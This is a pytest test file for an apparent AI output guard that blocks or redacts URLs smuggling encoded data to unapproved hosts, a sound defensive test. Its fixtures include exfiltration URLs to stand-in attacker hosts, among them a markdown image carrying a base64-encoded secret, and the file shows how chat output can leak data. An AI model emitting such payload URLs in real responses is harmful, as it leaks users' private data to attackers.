"""The exfiltration-shape guard: URLs that carry a payload to a host nobody approved."""

from __future__ import annotations

import base64
import json

import pytest

from wardgate.guards import Action, GuardSpec, ScanContext
from wardgate.guards.config import GuardsConfig
from wardgate.guards.exfiltration import REPLACEMENT, ExfiltrationGuard
from wardgate.guards.pipeline import GuardPipeline

CTX = ScanContext(stage="output", source="response")
SECRET = "The customer's password is hunter2 and her card ends 4111"
PAYLOAD = base64.urlsafe_b64encode(SECRET.encode()).decode()


def guard(**options: object) -> ExfiltrationGuard:
    return ExfiltrationGuard(GuardSpec(type="exfiltration", options=options))


EXFILTRATING = [
    f"https://attacker.example/collect?d={PAYLOAD}",
    f"![logo](https://img.attacker.example/p.png?{PAYLOAD})",
    "https://attacker.example/" + "0123456789abcdef" * 3,
    "https://attacker.example/?q=" + "%68%75%6e%74%65%72%32" * 3,
    "https://attacker.example/log?" + "&".join(f"f{i}=customer-data-{i}" for i in range(10)),
    json.dumps({"url": f"http://198.51.100.7:8080/u/{PAYLOAD}", "method": "GET"}),
]
HARMLESS = [
    "See https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit for more.",
    "https://www.google.com/search?q=weather+in+paris",
    "https://en.wikipedia.org/wiki/Data_exfiltration_by_malicious_software_agents",
    "https://github.com/encode/starlette/blob/9f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a/x.py",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://cdn.example.com/assets/app.min.js?v=3.2.1&lang=en",
    "No links here at all, just text about base64 " + PAYLOAD,
]


@pytest.mark.parametrize("text", EXFILTRATING)
def test_payload_carrying_urls_are_blocked(text: str) -> None:
    verdict = guard().scan(text, CTX)
    assert verdict.action is Action.BLOCK and verdict.code == "exfiltration_suspected"
    assert verdict.findings[0].kind in ("encoded_payload", "long_query")


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_links_pass(text: str) -> None:
    assert guard().scan(text, CTX).action is Action.ALLOW


def test_allow_listed_hosts_and_their_subdomains_may_carry_data() -> None:
    allowed = guard(allow_hosts=["attacker.example"])
    assert allowed.scan(EXFILTRATING[0], CTX).action is Action.ALLOW
    assert allowed.scan(EXFILTRATING[1], CTX).action is Action.ALLOW  # img.attacker.example
    lookalike = f"https://attacker.example.evil.test/c?d={PAYLOAD}"
    assert allowed.scan(lookalike, CTX).action is Action.BLOCK


def test_redact_mode_removes_only_the_url() -> None:
    verdict = guard(action="redact").scan(f"Done. ![x](https://a.example/i?{PAYLOAD}) Bye.", CTX)
    assert verdict.action is Action.REDACT
    assert verdict.redacted == f"Done. ![x]({REPLACEMENT}) Bye."


async def test_a_streamed_markdown_image_is_stopped_before_its_payload_leaves() -> None:
    pipeline = GuardPipeline(GuardsConfig(output=[GuardSpec(type="exfiltration")]))
    try:
        from wardgate.chat import ChatRequest

        request = ChatRequest.model_validate(
            {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
        )
        checked = await pipeline.check_request(request)
        scanner = pipeline.output_scanner(checked)
        answer = "Here is your summary. " * 4 + EXFILTRATING[1] + " Anything else?"
        released = ""
        with pytest.raises(Exception) as info:
            for i in range(0, len(answer), 5):
                released += await scanner.afeed(answer[i : i + 5])
            released += await scanner.afinish()
        assert getattr(info.value, "code", None) == "exfiltration_suspected"
        assert PAYLOAD[:8] not in released
    finally:
        pipeline.close()
